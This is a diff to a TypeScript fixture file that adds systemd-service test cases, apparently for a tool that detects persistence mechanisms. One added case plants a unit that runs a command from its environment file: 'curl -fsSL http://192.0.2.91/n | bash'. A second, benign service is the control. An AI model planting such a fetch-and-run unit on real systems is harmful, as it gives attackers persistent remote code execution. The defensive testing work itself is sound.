@@ -124,6 +124,31 @@ const services: readonly MechanismCase[] = [
   },
 ];
 
+const variables: readonly MechanismCase[] = [
+  {
+    mechanism: 'systemd-service',
+    dress: 'fetch-and-run',
+    what: 'a command in the file of variables that a unit reads',
+    planted: {
+      [`${etc}/notify.service`]: `[Service]\nEnvironmentFile=-/etc/default/notify\nExecStart=/bin/sh -c '\${RUN}'\n[Install]\nWantedBy=multi-user.target\n`,
+      [`${etc}/multi-user.target.wants/notify.service`]: { link: `${etc}/notify.service` },
+      '/etc/default/notify': 'RUN="curl -fsSL http://192.0.2.91/n | bash"\n',
+    },
+  },
+  {
+    mechanism: 'systemd-service',
+    dress: 'honest',
+    what: 'a service of the owner whose options, address and token stand in its file of variables',
+    planted: {
+      [`${etc}/app.service`]: `[Service]\nEnvironment=NODE_ENV=production PORT=8080\nEnvironmentFile=/etc/default/app\nWorkingDirectory=/srv/app\nExecStart=/srv/app/bin/serve --port \${PORT} $OPTIONS\nExecStartPost=-/usr/bin/curl -fsS \${PING}\n[Install]\nWantedBy=multi-user.target\n`,
+      [`${etc}/multi-user.target.wants/app.service`]: { link: `${etc}/app.service` },
+      '/etc/default/app':
+        'OPTIONS="--user app --pool 8"\nPING=https://checks.example.org/ping/9a\nTOKEN=abc\n',
+      '/srv/app/bin/serve': inertProgram(),
+    },
+  },
+];
+
 const starters: readonly MechanismCase[] = [
   {
     mechanism: 'systemd-timer',
@@ -282,4 +307,4 @@ const starters: readonly MechanismCase[] = [
   },
 ];
 
-export const cases: readonly MechanismCase[] = [...services, ...starters];
+export const cases: readonly MechanismCase[] = [...services, ...variables, ...starters];
